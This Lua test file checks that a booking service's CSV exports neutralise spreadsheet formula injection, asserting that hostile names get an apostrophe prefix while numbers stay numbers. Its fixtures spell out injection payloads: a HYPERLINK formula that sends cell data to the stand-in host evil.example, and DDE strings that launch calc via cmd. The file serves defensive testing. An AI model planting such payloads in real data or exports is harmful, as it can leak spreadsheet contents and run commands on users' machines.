-- CSV exports never hand a spreadsheet a formula (OWASP "CSV injection"):
-- names an attacker chooses ("=HYPERLINK(...)") come out with a leading
-- apostrophe, while numbers, negative ones included, stay numbers.
local H = require "http_env"

-- RFC 4180 rows of `text` (CRLF lines, quoted fields, doubled quotes).
local function parse_csv(text)
  local rows, row, field, i, quoted = {}, {}, {}, 1, false
  while i <= #text do
    local ch = text:sub(i, i)
    if quoted then
      if ch == '"' and text:sub(i + 1, i + 1) == '"' then field[#field + 1] = '"'; i = i + 1
      elseif ch == '"' then quoted = false
      else field[#field + 1] = ch end
    elseif ch == '"' then quoted = true
    elseif ch == "," then row[#row + 1] = table.concat(field); field = {}
    elseif ch == "\r" and text:sub(i + 1, i + 1) == "\n" then
      row[#row + 1] = table.concat(field); rows[#rows + 1] = row; row, field = {}, {}; i = i + 1
    else field[#field + 1] = ch end
    i = i + 1
  end
  return rows
end

-- The cell of `column` in the first data row whose `key` column is `value`.
local function cell(rows, key, value, column)
  local idx = {}
  for k, name in ipairs(rows[1]) do idx[name] = k end
  assert(idx[key] and idx[column], "no column " .. key .. " or " .. column)
  for r = 2, #rows do
    if rows[r][idx[key]] == value then return rows[r][idx[column]] end
  end
  error("no row with " .. key .. " = " .. value)
end

-- No cell may start like a formula unless it is a plain number.
local function assert_no_formula(rows, what)
  for r, row in ipairs(rows) do
    for _, v in ipairs(row) do
      if v:find("^[=+%-@\t\r]") then
        assert.truthy(v:match("^%-%d+%.?%d*$"), ("%s row %d: %q"):format(what, r, v))
      end
    end
  end
end

describe("CSV exports", function()
  local env, w
  local EVIL_TENANT = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

  setup(function()
    env = H.start()
    w = env:world { tenant_name = EVIL_TENANT, user_name = "+1+cmd|' /C calc'!A0",
                    room_name = "@SUM(1+1)*cmd|' /C calc'!A0", building_name = "-2+3+cmd" }
    env:grant(w, 10, { start = "2026-01-01" })
    env:must(201, "POST", "/v1/bookings", {
      resource_id = w.room.id, user_id = w.user.id, start = "2026-01-05T09:00:00Z",
      ["end"] = "2026-01-05T10:30:00Z", payment_method = "credits" })
  end)
  teardown(function() if env then env:stop() end end)

  local function csv(path)
    local status, body, headers = env:get(path .. (path:find("?", 1, true) and "&" or "?")
                                          .. "format=csv")
    assert.equal(200, status, body)
    assert.matches("^text/csv", headers["content-type"])
    return parse_csv(body)
  end

  it("neutralises names in the credits report", function()
    local rows = csv("/v1/reports/credits")
    assert.equal("'" .. EVIL_TENANT, cell(rows, "tenant_id", w.tenant.id, "tenant_name"))
    assert.equal("10", cell(rows, "tenant_id", w.tenant.id, "amount"))
    assert.equal("1.5", cell(rows, "tenant_id", w.tenant.id, "used"))
    assert_no_formula(rows, "credits")
  end)

  it("neutralises names in the usage report", function()
    local rows = csv("/v1/reports/usage")
    local id = rows[2][1]
    assert.equal("'" .. EVIL_TENANT, cell(rows, "booking_id", id, "tenant_name"))
    assert.equal("'+1+cmd|' /C calc'!A0", cell(rows, "booking_id", id, "user_name"))
    assert.equal("'@SUM(1+1)*cmd|' /C calc'!A0", cell(rows, "booking_id", id, "resource_name"))
    assert.equal("'-2+3+cmd", cell(rows, "booking_id", id, "building_name"))
    assert.equal("1.5", cell(rows, "booking_id", id, "credits"))
    assert_no_formula(rows, "usage")
  end)

  it("neutralises names in the Data Hub; its figures stay numbers", function()
    -- (Negative numbers are covered by tests/c/test_csv.c: no hub figure
    -- here goes below zero.)
    local lots = env:must(200, "GET", "/v1/users/" .. w.user.id .. "/wallet").lots
    env:must(201, "POST", "/v1/adjustments", { lot_id = lots[1].id, amount = -0.5, memo = "fix" })
    local rows = csv("/v1/reports/datahub?unit=hour&from=2026-01&to=2026-01")
    assert.equal("'" .. EVIL_TENANT, cell(rows, "tenant_id", w.tenant.id, "name"))
    assert.equal("9.5", cell(rows, "tenant_id", w.tenant.id, "once_granted"))
    assert_no_formula(rows, "datahub")
  end)
end)
